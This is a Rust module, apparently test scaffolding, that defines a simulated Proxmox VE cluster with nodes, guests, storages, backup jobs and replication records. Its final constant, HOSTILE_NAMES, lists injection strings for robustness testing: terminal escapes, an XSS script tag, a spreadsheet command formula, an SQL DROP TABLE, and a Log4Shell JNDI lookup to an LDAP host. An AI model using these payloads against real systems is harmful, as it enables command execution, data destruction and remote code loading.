//! The simulated cluster as plain values. What it shows at a time is worked out in `view` and in the answers.

use super::access::Access;
use super::task::Task;
use jiff::Timestamp;
use serde_json::{Map, Value, json};

/// One GiB.
pub const GIB: u64 = 1 << 30;

/// A cluster, or one host that never was in one.
#[derive(Debug, Clone, PartialEq)]
pub struct Cluster {
    /// Name of the cluster; `None` for a lone host.
    pub name: Option<String>,
    /// Version of pve-manager that all nodes run.
    pub version: String,
    /// Nodes.
    pub nodes: Vec<Node>,
    /// Guests.
    pub guests: Vec<Guest>,
    /// Storages as they are configured.
    pub storages: Vec<Storage>,
    /// Pools.
    pub pools: Vec<Pool>,
    /// Backup jobs.
    pub jobs: Vec<Job>,
    /// Tasks of all nodes, in any order.
    pub tasks: Vec<Task>,
    /// How many finished tasks a node keeps: the index turns over at about 1000 entries, twice.
    pub tasks_kept: usize,
    /// Replication as each source node would list it: `(node, record)`.
    pub replication: Vec<(String, Value)>,
    /// Node of the HA master; `None`: no HA.
    pub ha_master: Option<String>,
    /// `armed` unless it is being disarmed; told by `ha/status/current`.
    pub ha_armed: String,
    /// What `/cluster/config/qdevice` tells; `{}` without one.
    pub qdevice: Value,
    /// Ceph.
    pub ceph: Ceph,
    /// Since when these nodes do not hear from the others, nor the others from them.
    pub split: Option<(Timestamp, Vec<String>)>,
    /// Users, tokens and what they may.
    pub access: Access,
}

/// Whether there is Ceph.
#[derive(Debug, Clone, PartialEq)]
pub enum Ceph {
    /// The packages are missing.
    NotInstalled,
    /// They are there, nothing is set up.
    NotInitialized,
    /// The answer about its status.
    Status(Value),
}

/// How a call for a node that cannot be reached ends at the node that was asked.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Unreachable {
    /// 595 at once: no route, or refused.
    NoConnection,
    /// 596: connected, then nothing.
    TimedOut,
    /// No answer at all while the client waits.
    Hangs,
}

/// A node.
#[derive(Debug, Clone, PartialEq)]
pub struct Node {
    /// Short name.
    pub name: String,
    /// Its address in the cluster's network.
    pub address: String,
    /// Votes in the quorum.
    pub votes: u64,
    /// Since when it has been up.
    pub booted: Timestamp,
    /// Since when it has been gone.
    pub down_since: Option<Timestamp>,
    /// Since when pvestatd has told nothing; everything else goes on.
    pub silent_since: Option<Timestamp>,
    /// Since when pmxcfs has been down.
    pub pmxcfs_down_since: Option<Timestamp>,
    /// Whether pvedaemon is down, which carries out the protected calls.
    pub pvedaemon_down: bool,
    /// How calls for this node end while it is down.
    pub unreachable: Unreachable,
    /// Since when its local resource manager has told nothing.
    pub lrm_silent_since: Option<Timestamp>,
    /// `online maintenance unknown fence gone`; only told where HA is used.
    pub ha_state: String,
    /// Processors.
    pub cpus: u64,
    /// Load of the processors, 0 to 1.
    pub cpu: f64,
    /// Share of time spent waiting for disks.
    pub iowait: f64,
    /// Load average of one minute.
    pub load: f64,
    /// Memory.
    pub memory: u64,
    /// Memory that is used.
    pub memory_used: u64,
    /// Swap; may be 0.
    pub swap: u64,
    /// Swap that is used.
    pub swap_used: u64,
    /// Root file system.
    pub root: u64,
    /// What is used of it.
    pub root_used: u64,
    /// What `disks/list` tells.
    pub disks: Vec<Value>,
    /// What `disks/zfs` tells; `None`: the tools are not installed.
    pub zfs: Option<Vec<Value>>,
    /// What `disks/zfs/NAME` tells.
    pub zfs_details: Vec<(String, Value)>,
    /// What `services` tells.
    pub services: Vec<Value>,
    /// Further files of `certificates/info`, beside the certificate that is served.
    pub certificates: Vec<Value>,
    /// What `subscription` tells.
    pub subscription: Value,
    /// What `apt/update` tells.
    pub updates: Vec<Value>,
    /// Laid over its entry in `/cluster/resources`: types and words that surprise.
    pub overlay: Map<String, Value>,
}

impl Node {
    /// A healthy node; the number makes its address.
    pub fn new(name: &str, number: u8, booted: Timestamp) -> Node {
        Node {
            name: name.to_owned(),
            address: format!("192.0.2.{number}"),
            votes: 1,
            booted,
            down_since: None,
            silent_since: None,
            pmxcfs_down_since: None,
            pvedaemon_down: false,
            unreachable: Unreachable::NoConnection,
            lrm_silent_since: None,
            ha_state: "online".to_owned(),
            cpus: 16,
            cpu: 0.12,
            iowait: 0.01,
            load: 1.25,
            memory: 64 * GIB,
            memory_used: 24 * GIB,
            swap: 8 * GIB,
            swap_used: 0,
            root: 96 * GIB,
            root_used: 20 * GIB,
            disks: vec![disk("/dev/nvme0n1", "S1", "PASSED", &json!(97))],
            zfs: None,
            zfs_details: Vec::new(),
            services: services(),
            certificates: Vec::new(),
            subscription: json!({ "status": "notfound", "message": "There is no subscription key", "serverid": "0123456789ABCDEF0123456789ABCDEF" }),
            updates: Vec::new(),
            overlay: Map::new(),
        }
    }
}

/// A disk as `disks/list` tells of it. `wearout` is what remains in percent, in whatever shape.
pub fn disk(path: &str, serial: &str, health: &str, wearout: &Value) -> Value {
    json!({
        "devpath": path, "by_id_link": format!("/dev/disk/by-id/{serial}"), "model": "SAMSUNG MZVL21T0HCLR", "serial": serial,
        "size": 1_024_209_543_168_u64, "type": "nvme", "health": health, "wearout": wearout, "used": "LVM", "gpt": 1, "osdid": -1,
        "osdid-list": null, "rpm": 0, "vendor": "unknown", "wwn": "eui.002538b1"
    })
}

/// Every shape of `wearout` and `health` that has been seen.
pub fn disks_of_all_kinds() -> Vec<Value> {
    let mut all: Vec<Value> =
        [json!(0), json!(1), json!(100), json!("N/A"), json!("97.5"), json!(-3), json!(null), json!("42"), json!(88.5)]
            .iter()
            .enumerate()
            .map(|(at, wearout)| disk(&format!("/dev/sd{}", char::from(b'a' + at as u8)), &format!("W{at}"), "PASSED", wearout))
            .collect();
    all.push(disk("/dev/sdx", "F1", "FAILED!", &json!(3)));
    all.push(disk("/dev/sdy", "D1", "SMART Disabled", &json!("N/A")));
    all.push(disk("/dev/sdz", "U1", "UNKNOWN", &json!("N/A")));
    all.push(disk("/dev/sdok", "O1", "OK", &json!(99)));
    let mut bare = disk("/dev/sdbare", "", "PASSED", &json!(50));
    if let Some(bare) = bare.as_object_mut() {
        bare.remove("serial");
    }
    all.push(bare);
    all
}

fn services() -> Vec<Value> {
    let service = |name: &str, active: &str, unit: &str| {
        let state = if active == "active" { "running" } else { "dead" };
        json!({ "name": name, "service": name, "desc": name, "state": state, "active-state": active, "unit-state": unit })
    };
    let mut all: Vec<Value> =
        ["corosync", "cron", "chrony", "pve-cluster", "pvedaemon", "pveproxy", "pvestatd", "pve-ha-crm", "pve-ha-lrm", "sshd"]
            .iter()
            .map(|name| service(name, "active", "enabled"))
            .collect();
    // Listed although it is not installed.
    all.push(service("systemd-timesyncd", "unknown", "not-found"));
    all
}

/// Kind of a guest.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Virtual machine.
    Qemu,
    /// Container.
    Lxc,
}

impl Kind {
    /// As in paths and records.
    pub fn word(self) -> &'static str {
        match self {
            Kind::Qemu => "qemu",
            Kind::Lxc => "lxc",
        }
    }

    /// As in names of HA services.
    pub fn short(self) -> &'static str {
        match self {
            Kind::Qemu => "vm",
            Kind::Lxc => "ct",
        }
    }
}

/// A guest.
#[derive(Debug, Clone, PartialEq)]
pub struct Guest {
    /// Number.
    pub vmid: u32,
    /// Kind.
    pub kind: Kind,
    /// Name.
    pub name: String,
    /// Where its config is.
    pub node: String,
    /// When it came there, and from where: a minority goes on seeing it at the old place.
    pub moved: Option<(Timestamp, String)>,
    /// `running stopped paused prelaunch ...`.
    pub state: String,
    /// Since when it has been up.
    pub started: Timestamp,
    /// Since when its counters count: the start, or the end of a migration.
    pub counted: Timestamp,
    /// Processors.
    pub cpus: u64,
    /// Load of its processors, 0 to 1.
    pub cpu: f64,
    /// Times with another load: from, until, load.
    pub spikes: Vec<(Timestamp, Timestamp, f64)>,
    /// Memory.
    pub memory: u64,
    /// Memory that is used; may be more than it has.
    pub memory_used: u64,
    /// Size of its (first) disk.
    pub disk: u64,
    /// What is used of it; never told of a virtual machine.
    pub disk_used: u64,
    /// Bytes a second: received, sent, read, written.
    pub rates: [u64; 4],
    /// Whether it is a template.
    pub template: bool,
    /// `backup migrate snapshot ...`.
    pub lock: Option<String>,
    /// State of its HA service, if it has one.
    pub ha: Option<String>,
    /// Tags.
    pub tags: Vec<String>,
    /// Whether it starts with its node.
    pub onboot: bool,
    /// More lines of its config.
    pub config: Map<String, Value>,
    /// Snapshots: name and time.
    pub snapshots: Vec<(String, Timestamp)>,
    /// Laid over its entry in `/cluster/resources`: types and words that surprise.
    pub overlay: Map<String, Value>,
}

impl Guest {
    /// A virtual machine that runs.
    pub fn vm(vmid: u32, name: &str, node: &str, started: Timestamp) -> Guest {
        Guest {
            vmid,
            kind: Kind::Qemu,
            name: name.to_owned(),
            node: node.to_owned(),
            moved: None,
            state: "running".to_owned(),
            started,
            counted: started,
            cpus: 4,
            cpu: 0.05,
            spikes: Vec::new(),
            memory: 8 * GIB,
            memory_used: 3 * GIB,
            disk: 32 * GIB,
            disk_used: 0,
            rates: [2_000, 1_000, 500, 4_000],
            template: false,
            lock: None,
            ha: None,
            tags: Vec::new(),
            onboot: true,
            config: Map::new(),
            snapshots: Vec::new(),
            overlay: Map::new(),
        }
    }

    /// A container that runs.
    pub fn ct(vmid: u32, name: &str, node: &str, started: Timestamp) -> Guest {
        Guest { kind: Kind::Lxc, memory: GIB, memory_used: GIB / 4, disk_used: 2 * GIB, ..Guest::vm(vmid, name, node, started) }
    }

    /// Stops it.
    pub fn stop(&mut self) {
        "stopped".clone_into(&mut self.state);
    }

    /// Starts it.
    pub fn start(&mut self, now: Timestamp) {
        "running".clone_into(&mut self.state);
        (self.started, self.counted) = (now, now);
    }

    /// Moves it while it runs: what it has counted is gone, its uptime goes on.
    pub fn migrate(&mut self, node: &str, now: Timestamp) {
        self.moved = Some((now, std::mem::replace(&mut self.node, node.to_owned())));
        self.counted = now;
    }

    /// Whether a process runs for it.
    pub fn is_up(&self) -> bool {
        self.state != "stopped"
    }
}

/// A storage as it is configured for all nodes.
#[derive(Debug, Clone, PartialEq)]
pub struct Storage {
    /// Name.
    pub name: String,
    /// `dir zfspool nfs iscsi rbd ...`.
    pub plugin: String,
    /// `images,rootdir,backup ...`.
    pub content: String,
    /// Whether it is the same on all nodes.
    pub shared: bool,
    /// The only nodes that have it; `None`: all.
    pub nodes: Option<Vec<String>>,
    /// Whether it is switched on.
    pub enabled: bool,
    /// Where it is not to be had; its figures are missing there.
    pub inactive_on: Vec<String>,
    /// Size; 0 for what has none (iSCSI).
    pub size: u64,
    /// What is used.
    pub used: u64,
    /// What its content list tells of backups.
    pub backups: Vec<Value>,
}

impl Storage {
    /// A storage that is well.
    pub fn new(name: &str, plugin: &str, content: &str, shared: bool) -> Storage {
        Storage {
            name: name.to_owned(),
            plugin: plugin.to_owned(),
            content: content.to_owned(),
            shared,
            nodes: None,
            enabled: true,
            inactive_on: Vec::new(),
            size: 1000 * GIB,
            used: 400 * GIB,
            backups: Vec::new(),
        }
    }

    /// Adds the file of a backup to what its content list tells.
    pub fn add_backup(&mut self, guest: &Guest, at: Timestamp) {
        let file = format!("vzdump-{}-{}-{}.vma.zst", guest.kind.word(), guest.vmid, at.strftime("%Y_%m_%d-%H_%M_%S"));
        self.backups.push(json!({
            "volid": format!("{}:backup/{file}", self.name), "content": "backup", "vmid": guest.vmid, "ctime": at.as_second(),
            "size": guest.disk / 3, "format": "vma.zst", "subtype": guest.kind.word()
        }));
    }

    /// Whether a node is to have it.
    pub fn is_on(&self, node: &str) -> bool {
        self.nodes.as_ref().is_none_or(|nodes| nodes.iter().any(|name| name == node))
    }
}

/// A pool.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pool {
    /// Name.
    pub name: String,
    /// Guests.
    pub guests: Vec<u32>,
    /// Storages.
    pub storages: Vec<String>,
}

/// A backup job.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Job {
    /// Name.
    pub id: String,
    /// `None` is as good as true.
    pub enabled: Option<bool>,
    /// Calendar expression.
    pub schedule: String,
    /// Which guests.
    pub covers: Covers,
    /// Except these.
    pub exclude: Vec<u32>,
    /// Only those on this node.
    pub node: Option<String>,
    /// Where to.
    pub storage: String,
}

/// Which guests a job is for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Covers {
    /// All.
    All,
    /// These.
    Listed(Vec<u32>),
    /// Those of a pool.
    Pool(String),
}

impl Job {
    /// A nightly job.
    pub fn nightly(id: &str, covers: Covers, storage: &str) -> Job {
        Job {
            id: id.to_owned(),
            enabled: None,
            schedule: "21:00".to_owned(),
            covers,
            exclude: Vec::new(),
            node: None,
            storage: storage.to_owned(),
        }
    }
}

impl Cluster {
    /// A cluster without guests whose nodes are all well; they are called `pve1`, `pve2`, ...
    pub fn new(name: &str, nodes: u8, now: Timestamp) -> Cluster {
        let booted = now - jiff::SignedDuration::from_hours(24 * 40);
        Cluster {
            name: Some(name.to_owned()),
            version: "9.2.11".to_owned(),
            nodes: (1..=nodes).map(|number| Node::new(&format!("pve{number}"), number, booted)).collect(),
            guests: Vec::new(),
            storages: vec![Storage::new("local", "dir", "iso,vztmpl,backup", false)],
            pools: Vec::new(),
            jobs: Vec::new(),
            tasks: Vec::new(),
            tasks_kept: 2000,
            replication: Vec::new(),
            ha_master: None,
            ha_armed: "armed".to_owned(),
            qdevice: json!({}),
            ceph: Ceph::NotInstalled,
            split: None,
            access: Access::auditor(),
        }
    }

    /// One host that never was in a cluster.
    pub fn standalone(now: Timestamp) -> Cluster {
        Cluster { name: None, ..Cluster::new("", 1, now) }
    }

    /// A large cluster: guests are spread over the nodes, every tenth is a container.
    pub fn large(nodes: u8, guests: u32, now: Timestamp) -> Cluster {
        let mut cluster = Cluster::new("large", nodes, now);
        let started = now - jiff::SignedDuration::from_hours(24 * 9);
        cluster.guests = (0..guests)
            .map(|at| {
                let (vmid, node) = (100 + at, format!("pve{}", at % u32::from(nodes.max(1)) + 1));
                if at % 10 == 9 {
                    Guest::ct(vmid, &format!("ct-{vmid}"), &node, started)
                } else {
                    Guest::vm(vmid, &format!("vm-{vmid}"), &node, started)
                }
            })
            .collect();
        cluster
    }

    /// Replicates a guest to a node, last a quarter of an hour ago; more keys lie over the record, null takes one away.
    pub fn replicate(&mut self, vmid: u32, target: &str, now: Timestamp, more: &Value) {
        let Some(guest) = self.guests.iter().find(|guest| guest.vmid == vmid) else { return };
        let last = now.as_second() - 900;
        let mut record = json!({
            "id": format!("{vmid}-0"), "guest": vmid, "jobnum": 0, "type": "local", "vmtype": guest.kind.word(), "source": guest.node,
            "target": target, "schedule": "*/15", "last_sync": last, "last_try": last, "next_sync": last + 900, "fail_count": 0, "duration": 4.2
        });
        if let (Value::Object(record), Value::Object(more)) = (&mut record, more) {
            for (name, value) in more {
                if value.is_null() {
                    record.remove(name)
                } else {
                    record.insert(name.clone(), value.clone())
                };
            }
        }
        self.replication.push((guest.node.clone(), record));
    }

    /// A node by name; nothing if there is none.
    pub fn node(&mut self, name: &str) -> Option<&mut Node> {
        self.nodes.iter_mut().find(|node| node.name == name)
    }

    /// A guest by number; nothing if there is none.
    pub fn guest(&mut self, vmid: u32) -> Option<&mut Guest> {
        self.guests.iter_mut().find(|guest| guest.vmid == vmid)
    }

    /// A storage by name; nothing if there is none.
    pub fn storage(&mut self, name: &str) -> Option<&mut Storage> {
        self.storages.iter_mut().find(|storage| storage.name == name)
    }

    /// The pool of a guest.
    pub fn pool_of(&self, vmid: u32) -> Option<&str> {
        self.pools.iter().find(|pool| pool.guests.contains(&vmid)).map(|pool| pool.name.as_str())
    }
}

/// Names that try to break out of a terminal, a table, a header or a path.
pub const HOSTILE_NAMES: [&str; 7] = [
    "line\nbreak",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{202e}txet ylnorw",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "a'; DROP TABLE guests; --",
    "${jndi:ldap://192.0.2.9/a}",
];
